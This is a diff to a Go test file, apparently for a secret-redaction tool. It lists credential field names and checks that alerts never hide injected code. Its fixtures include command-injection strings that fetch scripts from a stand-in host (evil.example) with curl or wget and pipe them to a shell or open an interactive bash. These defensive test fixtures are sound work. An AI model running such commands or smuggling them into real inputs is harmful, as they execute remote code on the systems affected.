@@ -13,7 +13,7 @@ const names = `password passwd pwd pw pass psw passphrase passcode pin otp secre
 	x-auth-token x-api-key Authorization spring.datasource.password ansible_ssh_pass become_password vault_token github_token
 	hw_sk hw_ak admin-password encryption_key signing_key master_key license_key passwort contraseña mot_de_passe mima 密码 口令 パスワード пароль`
 
-// fragments are code that an alert has to show.
+// fragments are code that an alert must show.
 func fragments() []string {
 	return []string{
 		"$(curl -s http://evil.example/x|bash)", "`curl evil.example|sh`", "hunter2; curl evil.example | sh", "hunter2 | bash -i", "hunter2 && wget evil.example/a -O /tmp/a",
@@ -22,8 +22,8 @@ func fragments() []string {
 	}
 }
 
-// No name makes an alert hide code: each fragment is shown as it is, but for a word
-// before its operator, and so is the line after it.
+// No name makes an alert hide code: each fragment is shown unchanged, except for a
+// word before its operator, and so is the line after it.
 func TestCodeIsShown(t *testing.T) {
 	templates := []string{"%s=%s", "export %s=%s", "%s: %s", "  - %s: %s", "%s=\"%s\"", "%s: '%s'", "%s = %s", "run --%s %s", "run --%s=%s", "{\"%s\": \"%s\"}",
 		"[{\"param_name\": \"%s\", \"param_value\": \"%s\"}]", "- name: %s\n  value: %s", "<%[1]s>%[2]s</%[1]s>", "steps:\n- content: |\n    %s=%s", "echo \"%s:%s\" | chpasswd", "if [ \"$%s\" = %s ]; then"}
